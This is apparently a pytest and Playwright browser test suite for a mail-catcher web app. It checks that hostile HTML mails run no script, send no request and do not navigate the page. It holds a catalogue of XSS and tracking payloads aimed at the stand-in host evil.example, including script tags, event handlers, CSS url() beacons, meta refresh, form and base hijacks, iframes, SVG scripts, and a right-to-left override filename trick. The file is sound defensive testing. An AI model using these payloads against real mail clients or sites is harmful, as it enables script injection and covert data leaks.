"""Hostile mail in a real browser: no script runs, no request leaves, nothing navigates the page away.

The browser is told that every name under .example lives at a server that waits (Chromium itself calls other
names): what a policy blocked never arrives there, although the browser's log may list it. Each test ends with a mail
whose picture is let in on purpose: when that has arrived, whatever else was on its way has arrived as well.
"""

import socketserver
import threading
from collections.abc import Iterator
from email.message import EmailMessage

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from catcher import Catcher

from . import samples
from .conftest import ARGUMENTS, PATIENCE, Send, find_chromium

pytestmark = pytest.mark.browser

LAST = "the-last-one"


class Waiting(socketserver.ThreadingTCPServer):
    """Remembers every connection, also one that says nothing."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Greeted)
        self.heard: list[tuple[str, int]] = []
        self.last = threading.Event()
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()


class Greeted(socketserver.BaseRequestHandler):
    server: Waiting

    def handle(self) -> None:
        self.server.heard.append(self.client_address)
        said = self.request.recv(4096)
        if LAST.encode() in said:
            self.server.last.set()
        self.request.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")


@pytest.fixture(scope="module")
def waiting() -> Iterator[Waiting]:
    """Where the attacks lead."""
    with Waiting() as server:
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def friend() -> Iterator[Waiting]:
    """Where the picture is that is let in."""
    with Waiting() as server:
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def trap(waiting: Waiting, friend: Waiting, browser: Browser) -> Iterator[Browser]:
    """A browser that knows no names but these two."""
    evil, good = (server.server_address[1] for server in (waiting, friend))
    rules = f"--host-resolver-rules=MAP good.example 127.0.0.1:{good}, MAP *.example 127.0.0.1:{evil}"
    trapped = browser.browser_type.launch(executable_path=find_chromium(), args=[*ARGUMENTS, rules])
    yield trapped
    trapped.close()


@pytest.fixture
def page(trap: Browser, catcher: Catcher, waiting: Waiting, friend: Waiting) -> Iterator[Page]:
    """A window whose page must end where it began, without a dialog, an error or a new window."""
    waiting.heard.clear()
    friend.last.clear()
    context = trap.new_context(base_url=catcher.http_url)
    page = context.new_page()
    surprises: list[str] = []

    def surprised(dialog: Dialog) -> None:
        surprises.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", surprised)
    page.on("pageerror", lambda error: surprises.append(str(error)))
    page.on("popup", lambda popup: surprises.append(popup.url))
    page.goto("/")
    page.evaluate("window.mine = true")
    yield page
    assert page.evaluate("window.mine"), "the page was navigated away"
    context.close()
    assert surprises == []


def read_then_let_one_in(page: Page, friend: Waiting, send: Send, mail: EmailMessage) -> None:
    """Open a hostile mail on its HTML; then one whose picture is let in, and wait for that picture."""
    last = samples.mail(
        "a@x.example", "b@x.example", "Last", "-", f"<img src='http://good.example/{LAST}'><p id=end>end</p>"
    )
    send(mail)
    page.get_by_test_id("message-row").first.get_by_role("link").click()
    expect(page.get_by_test_id("html-frame")).to_be_visible()
    expect(page.get_by_test_id("html-frame").content_frame.locator("#end")).to_be_attached()
    send(last)
    page.get_by_test_id("message-row").filter(has_text="Last").get_by_role("link").click()
    page.get_by_test_id("remote-switch").click()
    assert friend.last.wait(PATIENCE / 1000), "the picture that was let in never came"


ATTACKS = {
    "script": """<script>parent.mine=0;alert(1);fetch('http://evil.example/')</script>
        <script src="http://evil.example/x.js"></script><script type=module>import 'http://evil.example/m.js'</script>""",
    "handlers": """<img src=x onerror="alert(1);parent.mine=0"><body onload=alert(2)><svg onload=alert(3)>
        <details open ontoggle=alert(4)><input autofocus onfocus=alert(5)>""",
    "pictures": """<img src="http://evil.example/1"><img srcset="https://evil.example/2 2x">
        <picture><source srcset="//evil.example/3"><img></picture><table background="http://evil.example/4">""",
    "styles": """<style>@import 'http://evil.example/a.css'; body{background:url(http://evil.example/b)}
        input[value^=a]{background:url(//evil.example/c)} p{font-family:x}
        @font-face{font-family:x;src:url(http://evil.example/f)}</style><input value=abc>
        <link rel=stylesheet href="http://evil.example/d.css"><p style="background:url(https://evil.example/e)">x""",
    "hints": """<link rel=preconnect href="https://evil.example"><link rel=dns-prefetch href="//evil.example">
        <link rel=prefetch href="http://evil.example/p"><link rel=preload as=image href="http://evil.example/q">
        <link rel=icon href="http://evil.example/i"><link rel=manifest href="http://evil.example/m">""",
    "refresh": """<meta http-equiv=refresh content="0;url=http://evil.example/r">
        <meta http-equiv=refresh content="0;url=javascript:alert(1)">""",
    "base": """<base href="http://evil.example/" target=_top><img src=picture.png><a href=x>x</a>""",
    "forms": """<form id=f action="http://evil.example/" target=_top><input name=a autofocus></form>
        <button form=f>Go</button>""",
    "frames": """<iframe src="http://evil.example/"></iframe><iframe srcdoc="<script>top.mine=0</script>"></iframe>
        <object data="http://evil.example/o"></object><embed src="http://evil.example/e">""",
    "svg": """<svg><script>alert(1)</script><image href="http://evil.example/s"/><use href="http://evil.example/u#x"/>
        <foreignObject><iframe src="http://evil.example/"></iframe></foreignObject></svg>""",
    "media": """<video src="http://evil.example/v" poster="http://evil.example/p" autoplay></video>
        <audio src="//evil.example/a" autoplay></audio>""",
    "meta policy": """<meta http-equiv=Content-Security-Policy content="default-src *; img-src *">
        <img src="http://evil.example/">""",
    "breaking out": """</body></html><!-- --!><plaintext><script>alert(1)</script>""",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_leaves(
    attack: str, page: Page, waiting: Waiting, friend: Waiting, send: Send
) -> None:
    html = f"<p id=end>end</p>{ATTACKS[attack]}"
    read_then_let_one_in(page, friend, send, samples.mail("a@x.example", "b@x.example", "Hostile", "-", html))
    assert waiting.heard == []


def test_a_click_on_a_script_or_a_form_does_nothing(page: Page, waiting: Waiting, friend: Waiting, send: Send) -> None:
    html = (
        "<p id=end>end</p><a id=a href='javascript:top.mine=0;alert(1)'>a</a> "
        "<a id=b href='data:text/html,<script>alert(1)</script>'>b</a>"
        "<form action='http://evil.example/' target=_top><button id=c>c</button></form>"
    )
    send(samples.mail("a@x.example", "b@x.example", "Clicks", "-", html))
    page.get_by_test_id("message-row").get_by_role("link").click()
    frame = page.get_by_test_id("html-frame").content_frame
    for id in ("a", "b", "c"):
        frame.locator(f"#{id}").click(modifiers=[], no_wait_after=True)
    read_then_let_one_in(page, friend, send, samples.mail("a@x.example", "b@x.example", "Next", "-", "<p id=end>end"))
    assert waiting.heard == []


MARKUP = "<img src=http://evil.example/n onerror=alert(1)><script>alert(2)</script>"


def test_names_and_subjects_are_text_whatever_they_hold(
    page: Page, waiting: Waiting, friend: Waiting, send: Send
) -> None:
    mail = samples.mail("a@x.example", "b@x.example", f"{MARKUP} \u202egpj.exe", "-", f"<p id=end>end</p>{MARKUP}")
    del mail["From"]
    mail["From"] = f'"{MARKUP}" <a@x.example>'
    mail["X-Markup"] = MARKUP
    mail.add_attachment(b"x", maintype="application", subtype="octet-stream", filename=f"{MARKUP}.txt")
    send(mail)
    page.get_by_test_id("message-row").get_by_role("link").click()
    expect(page.get_by_test_id("message-subject")).to_contain_text("<script>alert(2)</script>")
    for tab in ("text", "source", "headers", "raw", "parts", "links", "transcript"):
        if page.get_by_test_id(f"tab-{tab}").count():
            page.get_by_test_id(f"tab-{tab}").click()
    assert page.locator("#page img, #page script").count() == 0
    page.keyboard.press("u")
    read_then_let_one_in(page, friend, send, samples.mail("a@x.example", "b@x.example", "Next", "-", "<p id=end>end"))
    assert waiting.heard == []


def test_what_turns_the_direction_of_writing_turns_nothing_else(page: Page, send: Send) -> None:
    send(samples.mail("a@x.example", "b@x.example", "See \u202egpj.exe", "What it says."))
    expect(page.get_by_test_id("message-row")).to_be_visible()
    subject = page.get_by_test_id("row-subject").bounding_box()
    snippet = page.locator(".row-snippet").bounding_box()
    assert subject
    assert snippet
    assert snippet["x"] >= subject["x"] + subject["width"] - 1


def test_relative_references_load_nothing_of_ours(
    page: Page, waiting: Waiting, friend: Waiting, send: Send, catcher: Catcher
) -> None:
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url) if "canary" in response.url else None)
    html = (
        "<p id=end>end</p><img src='/api/v1/messages?canary=1'><img src='../static/icon.svg?canary=2'>"
        "<link rel=stylesheet href='/static/css/page.css?canary=3'>"
        "<style>p{background:url(/static/icon.svg?canary=4)}</style>"
        "<video src='/static/icon.svg?canary=5'></video>"
    )
    read_then_let_one_in(page, friend, send, samples.mail("a@x.example", "b@x.example", "Relative", "-", html))
    assert answered == []


def test_a_mails_own_pictures_are_shown(page: Page, send: Send) -> None:
    mail = samples.mail("a@x.example", "b@x.example", "Own", "-", "<p id=end>end</p><img id=own src='cid:dot@x'>")
    dot = bytes.fromhex("47494638396101000100800000ff0000ffffff21f90400000000002c00000000010001000002024401003b")
    html = mail.get_payload(1)
    assert isinstance(html, EmailMessage)
    html.add_related(dot, maintype="image", subtype="gif", cid="<dot@x>")
    send(mail)
    page.get_by_test_id("message-row").get_by_role("link").click()
    picture = page.get_by_test_id("html-frame").content_frame.locator("#own")
    expect(picture).to_have_js_property("naturalWidth", 1)
